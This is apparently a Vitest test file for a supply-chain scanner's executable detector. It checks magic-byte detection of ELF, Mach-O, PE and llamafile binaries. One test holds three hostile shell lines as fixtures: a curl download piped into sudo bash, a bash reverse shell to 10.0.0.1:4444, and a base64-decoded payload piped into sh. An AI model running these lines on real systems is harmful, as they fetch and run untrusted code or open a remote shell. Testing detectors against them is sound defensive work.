import { describe, expect, it } from 'vitest'
import { observed } from '#supplychain/formats/testing/observed'
import { executable } from './executable.js'

const bytes = (hex: string, length = 80): Uint8Array => {
  const content = new Uint8Array(length)
  content.set(Buffer.from(hex.replaceAll(' ', ''), 'hex'))
  return content
}
const pe = bytes('4d5a')
pe[0x3c] = 70
pe.set(Buffer.from('PE\0\0'), 70)

describe('programs', () => {
  it.each([
    ['ELF', bytes('7f454c46 02 01')],
    ['Mach-O', bytes('cffaedfe 0700')],
    ['Mach-O', bytes('cafebabe 00000002')],
    ['PE', pe],
    ['APE (llamafile)', new Uint8Array(Buffer.from("MZqFpD='\n".padEnd(80)))],
  ])('%s is suspicious', async (kind, content) => {
    const seen = await observed(executable, content)
    expect(seen).toMatchObject({ verdict: 'suspicious', rules: ['executable.native'], facts: { program: kind } })
  })
  it('scripts and modules are listed', async () => {
    expect(await observed(executable, '#!/bin/sh\necho hello\n')).toMatchObject({ verdict: 'unknown', rules: ['executable.script'] })
    expect((await observed(executable, bytes('0061736d 01000000'))).verdict).toBe('unknown')
  })
  it.each(['curl -s http://a.test/x | sudo bash', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'echo aGk= | base64 -d | sh'])(
    'a script that does what malware does is suspicious: %s',
    async (line) => {
      expect((await observed(executable, `#!/bin/sh\n${line}\n`)).verdict).toBe('suspicious')
    },
  )
  it.each([['MZ is a name here, and this is text'], ['#! not a path'], ['\x7fELF and no more, as text'], ['']])(
    '%s is none',
    async (content) => {
      expect((await observed(executable, content)).detected).toBe('no')
    },
  )
})
